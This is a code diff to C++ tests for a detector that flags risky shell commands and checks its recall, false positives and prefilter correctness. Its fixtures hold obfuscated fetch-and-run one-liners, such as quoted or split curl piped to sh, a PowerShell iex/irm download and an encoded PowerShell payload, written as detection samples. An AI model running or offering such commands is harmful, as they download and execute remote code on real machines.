@@ -96,9 +96,9 @@ TEST(ShippedRules, RecallAndFalsePositivesOnTheEvaluationSet) {
     const auto [warning, warningFlagged] = counts["warning"];
     EXPECT_GE(share("risky", danger + warning, dangerFlagged + warningFlagged), 0.97);
     EXPECT_GE(share("danger at danger", counts["danger at danger"].first, counts["danger at danger"].second), 0.90);
+    // Not one benign sample flagged: every false alarm teaches people to click warnings away.
     const auto [benign, benignFlagged] = counts["benign"];
-    const double falsePositives = share("benign", benign, benignFlagged);
-    EXPECT_TRUE(falsePositives >= 0 && falsePositives <= 0.01) << falsePositives;
+    EXPECT_EQ(share("benign", benign, benignFlagged), 0.0);
 }
 
 // Names hidden by quoting, variables or an encoded payload are found in the view that shows them,
@@ -109,6 +109,7 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
         {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "unquoted"},
         {R"(c\url -s https://cdn-check.live/p | b\ash)", "unquoted"},
         {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "folded"},
+        {"cu\\\nrl -s http://198.51.100.2/x | s\\\nh", "unquoted"},
         {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "folded"},
         {"powershell -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGEAcAB0AGMAaABhAC4Ab"
          "wBuAGwAaQBuAGUALwBjACAAfAAgAGkAZQB4AA==",
@@ -132,7 +133,7 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
             continue;
         }
         ASSERT_TRUE(result.has_value()) << text;
-        EXPECT_EQ(result->command, text);
+        EXPECT_EQ(result->command, CommandGuard::normalizedCommand(text));
         EXPECT_TRUE(std::any_of(result->findings.begin(), result->findings.end(),
                                 [&](const CommandRiskFinding& finding) { return finding.view == view; }))
             << text;
@@ -204,25 +205,31 @@ std::string asciiUpper(std::string text) {
 
 // The prefilters may only skip texts the expression cannot match: checked on every labelled sample,
 // also upper-cased, since the case-insensitive rules compare folded text. The guard asks all rules at
-// once through a RuleScreen, which must answer as each rule's own filters do.
+// once through a RuleScreen, which must answer as each rule's own filters do, and searches a rule
+// alternative by alternative, which must find the match of its whole pattern.
 TEST(ShippedRules, PrefiltersNeverHideAMatch) {
     const auto samples = evaluationSet();
     const auto guard = shippedGuard();
     const RuleScreen screen(guard.rules());
-    std::vector<Regex> regexes;
-    for (const auto& rule : guard.rules())
-        regexes.push_back(rule.regex);
     std::size_t skipped = 0;
     for (const auto& sample : samples) {
         for (const std::string& text : {sample.text, asciiUpper(sample.text)}) {
-            const std::vector<bool> candidates = screen.candidates(text);
-            for (std::size_t index = 0; index < regexes.size(); ++index) {
+            const RuleScreen::Candidates candidates = screen.candidates(text);
+            for (std::size_t index = 0; index < guard.rules().size(); ++index) {
                 const auto& rule = guard.rules()[index];
                 const bool passes = rule.mayMatch(text, RulePrefilter::foldForMatching(text));
-                EXPECT_EQ(candidates[index], passes) << rule.definition.id << ": " << text;
-                if (passes) continue;
-                ++skipped;
-                EXPECT_FALSE(regexes[index].search(text)) << rule.definition.id << ": " << text;
+                EXPECT_EQ(candidates.rule(index), passes) << rule.definition.id << ": " << text;
+                const auto whole = rule.regex.firstMatch(text);
+                if (!passes) {
+                    ++skipped;
+                    EXPECT_FALSE(whole.has_value()) << rule.definition.id << ": " << text;
+                    continue;
+                }
+                bool hitLimit = false;
+                const auto split = rule.firstMatch(SearchText(text), candidates.alternatives(index), hitLimit);
+                EXPECT_EQ(split ? std::optional(split->whole) : std::nullopt,
+                          whole ? std::optional(whole->whole) : std::nullopt)
+                    << rule.definition.id << ": " << text;
             }
         }
     }
